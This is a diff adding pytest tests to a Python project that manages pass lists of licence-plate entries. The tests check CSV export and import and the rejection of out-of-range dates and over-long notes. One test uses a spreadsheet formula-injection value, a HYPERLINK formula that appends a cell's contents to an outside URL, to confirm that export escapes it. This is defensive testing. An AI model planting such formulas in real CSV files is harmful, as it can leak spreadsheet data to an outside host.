@@ -86,6 +86,29 @@ def test_a_csv_file_returns_as_it_came(listed: PassStore) -> None:
     assert listed.lists.export_csv("residents", REQUESTER) == CSV
 
 
+def test_a_note_is_no_formula_in_a_csv_file(listed: PassStore) -> None:
+    entry = ListEntry("A123BC77", '=HYPERLINK("http://site/?"&A1)')
+    listed.lists.put("residents", [entry])
+    file = listed.lists.export_csv("residents", REQUESTER)
+    assert file.splitlines()[1].startswith("A123BC77,\"'=HYPERLINK")
+    listed.lists.import_csv("residents", file, replacing=True)
+    assert listed.lists.entries("residents") == [entry]
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        pytest.param(ListEntry("A123BC77", valid_from_s=-62_135_647_200.0), id="before year 1"),
+        pytest.param(ListEntry("A123BC77", valid_until_s=253_402_351_140.0), id="after year 9999"),
+        pytest.param(ListEntry("A123BC77", "x" * 2001), id="long note"),
+    ],
+)
+def test_an_entry_that_could_not_be_shown_is_rejected(listed: PassStore, entry: ListEntry) -> None:
+    with pytest.raises(ParameterError, match=r"wanted (a time|at most 2000)"):
+        listed.lists.put("residents", [entry])
+    assert listed.lists.entries("residents") == []
+
+
 def test_a_csv_file_may_replace_all_entries(listed: PassStore) -> None:
     listed.lists.put("residents", [ListEntry("K777KK50")])
     listed.lists.import_csv("residents", "\ufefftext\nA123BC77\n", replacing=True)
